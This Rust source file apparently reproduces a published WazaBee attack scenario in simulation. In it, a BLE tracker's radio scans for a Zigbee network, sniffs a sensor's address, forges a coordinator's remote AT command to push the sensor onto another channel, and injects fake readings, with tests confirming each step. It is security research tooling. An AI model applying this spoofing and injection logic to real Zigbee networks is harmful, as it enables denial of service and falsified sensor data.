//! Scenario B (paper §VI-C): complex Zigbee attacks from a BLE tracker.
//!
//! The Gablys Lite tracker's nRF51822 has no LE 2M PHY, so its WazaBee
//! primitives ride the chip's Enhanced ShockBurst 2 Mbit/s mode instead.
//! The attack has four steps:
//!
//! 1. **Active scanning** — broadcast a beacon request on each channel and
//!    wait for a coordinator's beacon (collect channel, PAN id, address).
//! 2. **Eavesdropping** — sniff legitimate traffic to learn the sensor's
//!    address.
//! 3. **Remote AT command injection** — forge a channel-change command from
//!    the coordinator to the sensor, knocking it off the network (DoS).
//! 4. **Fake data injection** — impersonate the silenced sensor.
//!
//! Every frame the attacker sends or hears crosses the IQ-sample medium: the
//! tracker's ESB modem on one side, a standards 802.15.4 modem (the XBee
//! radios) on the other.

use wazabee_dot154::mac::{Address, FrameType, MacFrame};
use wazabee_dot154::{Dot154Channel, Dot154Modem, Ppdu};
use wazabee_esb::EsbModem;
use wazabee_radio::{Link, RfFrame};
use wazabee_zigbee::{AtCommand, XbeePayload, ZigbeeNetwork};

use crate::error::WazaBeeError;
use crate::rx::WazaBeeRx;
use crate::tx::WazaBeeTx;

/// What active scanning learned about the victim network.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct DiscoveredPan {
    /// Channel the beacon was heard on.
    pub channel: Dot154Channel,
    /// The network's PAN identifier.
    pub pan: u16,
    /// The coordinator's short address.
    pub coordinator: u16,
}

/// The attack's progress report.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct AttackReport {
    /// Step 1 result.
    pub discovered: Option<DiscoveredPan>,
    /// Step 2 result: the sensor's short address.
    pub sensor: Option<u16>,
    /// Step 3: the AT response proving the channel change was executed.
    pub dos_acknowledged: bool,
    /// Step 4: spoofed readings the coordinator accepted.
    pub fake_readings_accepted: usize,
}

impl AttackReport {
    /// True when all four steps completed.
    pub fn complete(&self) -> bool {
        self.discovered.is_some()
            && self.sensor.is_some()
            && self.dos_acknowledged
            && self.fake_readings_accepted > 0
    }
}

/// The diverted tracker: WazaBee primitives over the nRF51822's ESB radio.
#[derive(Debug)]
pub struct TrackerAttack {
    tx: WazaBeeTx<EsbModem>,
    rx: WazaBeeRx<EsbModem>,
    xbee_radio: Dot154Modem,
    seq: u8,
    /// Channel the sensor gets exiled to in step 3.
    pub dos_channel: Dot154Channel,
}

impl TrackerAttack {
    /// Prepares the attack at the given oversampling factor.
    ///
    /// # Errors
    ///
    /// Propagates [`WazaBeeError::UnsupportedDataRate`] if the ESB radio is
    /// misconfigured (cannot happen with the stock 2 Mbit/s modem).
    pub fn new(samples_per_symbol: usize) -> Result<Self, WazaBeeError> {
        Ok(TrackerAttack {
            tx: WazaBeeTx::new(EsbModem::new(samples_per_symbol))?,
            rx: WazaBeeRx::new(EsbModem::new(samples_per_symbol))?,
            xbee_radio: Dot154Modem::new(samples_per_symbol),
            seq: 0x80,
            dos_channel: Dot154Channel::new(25).expect("channel 25"),
        })
    }

    fn next_seq(&mut self) -> u8 {
        self.seq = self.seq.wrapping_add(1);
        self.seq
    }

    /// Transmits a MAC frame through the full PHY path: ESB WazaBee TX →
    /// medium → XBee 802.15.4 receiver → (if the FCS survived) the network.
    fn phy_inject(
        &mut self,
        net: &mut ZigbeeNetwork,
        link: &mut Link,
        channel: Dot154Channel,
        frame: &MacFrame,
    ) -> bool {
        let Ok(ppdu) = Ppdu::new(frame.to_psdu()) else {
            return false;
        };
        wazabee_telemetry::counter!("scenario_b.frames_tx").inc();
        let air = self.tx.transmit(&ppdu);
        let rf = RfFrame::new(channel.center_mhz(), air, self.xbee_radio.sample_rate());
        let heard = link.deliver(&rf, channel.center_mhz());
        match self.xbee_radio.receive(&heard) {
            Some(rx) if rx.fcs_ok() => {
                wazabee_telemetry::counter!("scenario_b.frames_ok").inc();
                net.inject(channel, rx.psdu);
                true
            }
            _ => false,
        }
    }

    /// Attempts to sniff one PSDU through the PHY path: XBee 802.15.4 TX →
    /// medium → ESB WazaBee RX.
    fn phy_sniff(&self, link: &mut Link, channel: Dot154Channel, psdu: &[u8]) -> Option<MacFrame> {
        let ppdu = Ppdu::new(psdu.to_vec()).ok()?;
        wazabee_telemetry::counter!("scenario_b.sniff.attempts").inc();
        let air = self.xbee_radio.transmit(&ppdu);
        let rf = RfFrame::new(channel.center_mhz(), air, self.xbee_radio.sample_rate());
        let heard = link.deliver(&rf, channel.center_mhz());
        let rx = self.rx.receive(&heard)?;
        if !rx.fcs_ok() {
            return None;
        }
        wazabee_telemetry::counter!("scenario_b.sniff.ok").inc();
        MacFrame::from_psdu(&rx.psdu)
    }

    /// Step 1: active scanning across all sixteen channels.
    pub fn active_scan(
        &mut self,
        net: &mut ZigbeeNetwork,
        link: &mut Link,
    ) -> Option<DiscoveredPan> {
        let _s = wazabee_telemetry::scope!("scenario_b.active_scan");
        for channel in Dot154Channel::all() {
            let cursor = net.log().len();
            let seq = self.next_seq();
            if !self.phy_inject(net, link, channel, &MacFrame::beacon_request(seq)) {
                continue;
            }
            let deadline = net.now().plus_ms(50);
            net.run_until(deadline);
            let records: Vec<_> = net
                .log_since(cursor)
                .iter()
                .filter(|r| r.channel == channel && r.source.is_some())
                .cloned()
                .collect();
            for record in records {
                if let Some(frame) = self.phy_sniff(link, channel, &record.psdu) {
                    if frame.frame_type == FrameType::Beacon {
                        if let (Some(pan), Address::Short(coordinator)) = (frame.src_pan, frame.src)
                        {
                            return Some(DiscoveredPan {
                                channel,
                                pan,
                                coordinator,
                            });
                        }
                    }
                }
            }
        }
        None
    }

    /// Step 2: eavesdrop on the discovered channel until a data frame
    /// reveals the sensor's address (or `timeout_ms` elapses).
    pub fn eavesdrop(
        &mut self,
        net: &mut ZigbeeNetwork,
        link: &mut Link,
        pan: DiscoveredPan,
        timeout_ms: u64,
    ) -> Option<u16> {
        let _s = wazabee_telemetry::scope!("scenario_b.eavesdrop");
        let deadline = net.now().plus_ms(timeout_ms);
        let mut cursor = net.log().len();
        while net.now() < deadline {
            let step = net.now().plus_ms(250);
            net.run_until(step.min(deadline));
            let records: Vec<_> = net
                .log_since(cursor)
                .iter()
                .filter(|r| r.channel == pan.channel && r.source.is_some())
                .cloned()
                .collect();
            cursor = net.log().len();
            for record in records {
                let Some(frame) = self.phy_sniff(link, pan.channel, &record.psdu) else {
                    continue;
                };
                if frame.frame_type == FrameType::Data && frame.effective_src_pan() == Some(pan.pan)
                {
                    if let Address::Short(src) = frame.src {
                        if src != pan.coordinator {
                            return Some(src);
                        }
                    }
                }
            }
        }
        None
    }

    /// Step 3: forge a remote AT command (spoofing the coordinator) that
    /// moves the sensor to [`TrackerAttack::dos_channel`]; confirm via the
    /// sensor's AT response on the old channel.
    pub fn inject_remote_at(
        &mut self,
        net: &mut ZigbeeNetwork,
        link: &mut Link,
        pan: DiscoveredPan,
        sensor: u16,
    ) -> bool {
        let _s = wazabee_telemetry::scope!("scenario_b.inject_remote_at");
        let cursor = net.log().len();
        let payload = XbeePayload::RemoteAtCommand {
            frame_id: 0x42,
            command: AtCommand::Channel(self.dos_channel.number()),
        };
        let seq = self.next_seq();
        let forged = MacFrame::data(pan.pan, pan.coordinator, sensor, seq, payload.to_bytes());
        if !self.phy_inject(net, link, pan.channel, &forged) {
            return false;
        }
        let deadline = net.now().plus_ms(50);
        net.run_until(deadline);
        // The AT response goes out before the channel change takes effect in
        // our node model? No — the node applies the change first, so the
        // response is transmitted on the *new* channel; hear it there.
        for record in net.log_since(cursor).to_vec() {
            if record.source.is_none() {
                continue;
            }
            let Some(frame) = self.phy_sniff(link, record.channel, &record.psdu) else {
                continue;
            };
            if let Some(XbeePayload::RemoteAtResponse {
                frame_id: 0x42,
                status,
            }) = XbeePayload::from_bytes(&frame.payload)
            {
                return status == wazabee_zigbee::AtStatus::Ok;
            }
        }
        false
    }

    /// Step 4: impersonate the silenced sensor with `count` fake readings,
    /// spaced `interval_ms` apart, starting at `first_value` and counting up.
    #[allow(clippy::too_many_arguments)]
    pub fn inject_fake_readings(
        &mut self,
        net: &mut ZigbeeNetwork,
        link: &mut Link,
        pan: DiscoveredPan,
        sensor: u16,
        first_value: u16,
        count: usize,
        interval_ms: u64,
    ) -> usize {
        let _s = wazabee_telemetry::scope!("scenario_b.inject_fake_readings");
        let spoofed = |net: &ZigbeeNetwork| {
            net.coordinator()
                .readings()
                .iter()
                .filter(|r| {
                    let delta = r.value.wrapping_sub(first_value);
                    usize::from(delta) < count && r.reported_by == sensor
                })
                .count()
        };
        let before = spoofed(net);
        for k in 0..count {
            let seq = self.next_seq();
            let payload = XbeePayload::reading(first_value.wrapping_add(k as u16));
            let fake = MacFrame::data(pan.pan, sensor, pan.coordinator, seq, payload.to_bytes());
            self.phy_inject(net, link, pan.channel, &fake);
            let deadline = net.now().plus_ms(interval_ms);
            net.run_until(deadline);
        }
        spoofed(net) - before
    }

    /// Runs the full four-step attack.
    pub fn execute(&mut self, net: &mut ZigbeeNetwork, link: &mut Link) -> AttackReport {
        let mut report = AttackReport::default();
        let Some(pan) = self.active_scan(net, link) else {
            return report;
        };
        report.discovered = Some(pan);
        let Some(sensor) = self.eavesdrop(net, link, pan, 8_000) else {
            return report;
        };
        report.sensor = Some(sensor);
        report.dos_acknowledged = self.inject_remote_at(net, link, pan, sensor);
        if report.dos_acknowledged {
            report.fake_readings_accepted =
                self.inject_fake_readings(net, link, pan, sensor, 9_000, 5, 500);
        }
        report
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use wazabee_radio::LinkConfig;

    fn link() -> Link {
        Link::new(LinkConfig::ideal(), 99)
    }

    #[test]
    fn active_scan_finds_the_testbed() {
        let mut net = ZigbeeNetwork::paper_testbed();
        let mut attack = TrackerAttack::new(8).unwrap();
        let pan = attack.active_scan(&mut net, &mut link()).unwrap();
        assert_eq!(pan.pan, 0x1234);
        assert_eq!(pan.coordinator, 0x0042);
        assert_eq!(pan.channel.number(), 14);
    }

    #[test]
    fn eavesdropping_learns_the_sensor_address() {
        let mut net = ZigbeeNetwork::paper_testbed();
        let mut attack = TrackerAttack::new(8).unwrap();
        let mut l = link();
        let pan = attack.active_scan(&mut net, &mut l).unwrap();
        let sensor = attack.eavesdrop(&mut net, &mut l, pan, 8_000).unwrap();
        assert_eq!(sensor, 0x0063);
    }

    #[test]
    fn remote_at_injection_moves_the_sensor() {
        let mut net = ZigbeeNetwork::paper_testbed();
        let mut attack = TrackerAttack::new(8).unwrap();
        let mut l = link();
        let pan = attack.active_scan(&mut net, &mut l).unwrap();
        let ok = attack.inject_remote_at(&mut net, &mut l, pan, 0x0063);
        assert!(ok, "AT response not observed");
        // Simulation ground truth: the sensor really changed channel.
        assert_eq!(net.node(1).config.channel, attack.dos_channel);
    }

    #[test]
    fn full_attack_completes_and_spoofs_the_display() {
        let mut net = ZigbeeNetwork::paper_testbed();
        let mut attack = TrackerAttack::new(8).unwrap();
        let mut l = link();
        let report = attack.execute(&mut net, &mut l);
        assert!(report.complete(), "incomplete: {report:?}");
        assert_eq!(report.fake_readings_accepted, 5);
        // The display's latest readings are the attacker's.
        let readings = net.coordinator().readings();
        let tail: Vec<u16> = readings.iter().rev().take(5).map(|r| r.value).collect();
        assert_eq!(tail, vec![9_004, 9_003, 9_002, 9_001, 9_000]);
        // And the real sensor is gone: it reports on the DoS channel now.
        assert_eq!(net.node(1).config.channel, attack.dos_channel);
    }

    #[test]
    fn scan_fails_on_an_empty_band() {
        let mut net = ZigbeeNetwork::new();
        let mut attack = TrackerAttack::new(8).unwrap();
        assert!(attack.active_scan(&mut net, &mut link()).is_none());
    }
}
